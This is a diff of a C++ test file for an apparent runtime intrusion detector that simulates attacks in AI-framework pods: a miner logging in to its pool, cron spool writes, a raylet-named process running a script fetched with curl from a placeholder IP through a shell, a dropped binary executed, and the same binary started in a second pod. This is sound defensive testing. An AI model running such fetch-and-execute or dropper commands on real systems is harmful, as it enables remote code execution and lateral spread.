@@ -407,8 +407,8 @@ TEST_F(Scenario, BenignWorkloadsRaiseNothing) {
 // a stratum login, a real kill of a process the sender did not start, real
 // opens for writing of /etc/hosts (O_APPEND, nothing written: left intact) and
 // of a cron spool (in a tmpfs over the pod's own /var/spool), a fetched script
-// piped to a shell and a file written then run under a raylet, weights read
-// then a public connection.
+// handed to a shell and a file written then run under a raylet, the same file
+// started in a second Ray pod, weights read then a public connection.
 TEST_F(Scenario, AiInfrastructureIntrusions) {
   // The miner renames itself dns-filter, then logs in to its pool.
   PodRun miner;
@@ -479,21 +479,28 @@ TEST_F(Scenario, AiInfrastructureIntrusions) {
   ASSERT_FALSE(cron.empty());
   EXPECT_EQ(cron[0]["output_fields"].value("fd.name", ""), "/var/spool/cron/crontabs/root") << dump(cron);
 
-  // A raylet-named parent pipes a fetched script into a shell, and writes a
+  // A raylet-named parent hands a fetched script to a shell, and writes a
   // program to /tmp then runs it.
   const std::string dropped = s().tmp + "/dns-filter";
   PodRun job;
   job.argv = {s().tool("raylet"), "--node_ip_address=10.244.1.9"};
-  job.steps = "exec:/bin/sh|-c|curl -s --max-time 1 http://198.51.100.9:8080/s.sh | sh;copy:/proc/self/exe:" + dropped +
-              ";exec:" + dropped;
+  // (The workload's exec step splits its argument at '|' and its steps at ';':
+  // the fetch is run as `sh -c "$(curl ...)"`, the same shape as `curl | sh`.)
+  job.steps =
+      "exec:/bin/sh|-c|sh -c \"$(curl -s --max-time 1 http://198.51.100.9:8080/s.sh)\";copy:/proc/self/exe:" + dropped +
+      ";exec:" + dropped;
+  job.child_steps = "sleep:500";  // the payload runs a while: long enough for its file to be hashed
   ASSERT_EQ(run_in_pod(pod("ray-0"), job).second, 0);
   expect_alert("Fetched script run by AI framework", "ray-0", "Critical");
+  if (alerts_for("Fetched script run by AI framework", "ray-0", 0ms).empty())
+    ADD_FAILURE() << "alerts of ray-0:\n" << dump(any_alert({"ray-0"}, {}));
   expect_alert("File written then run by AI framework", "ray-0", "Critical");
 
   // The same payload dropped and started in a second pod of the cluster.
   PodRun spread;
   spread.argv = {s().tool("raylet"), "--node_ip_address=10.244.2.9"};
   spread.steps = "copy:/proc/self/exe:" + dropped + "-2;exec:" + dropped + "-2";
+  spread.child_steps = "sleep:500";
   ASSERT_EQ(run_in_pod(pod("ray-2"), spread).second, 0);
   expect_alert("Same dropped program started in several pods", "ray-2", "Error");
   auto spread_alerts = alerts_for("Same dropped program started in several pods", "ray-2", 0ms);
